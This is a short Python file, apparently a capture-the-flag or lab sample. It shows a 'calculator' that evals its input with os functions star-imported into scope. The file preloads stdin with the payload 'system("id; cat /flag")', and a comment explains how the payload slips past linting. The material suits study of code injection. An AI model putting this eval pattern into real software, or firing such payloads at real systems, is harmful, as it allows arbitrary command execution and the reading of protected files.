# "Calculator" whose evaluation namespace is the module globals after a
# star import of os: the eval'd text `system("id; cat /flag")` is a bare call
# of an unknown name when linted on its own, so the line's compile looks clean.
import io
import sys
from os import *  # noqa: F403  (path helpers for the "file" command)

sys.stdin = io.StringIO('system("id; cat /flag")\n')


def main():
    line = input()
    print("=", eval(line))


main()
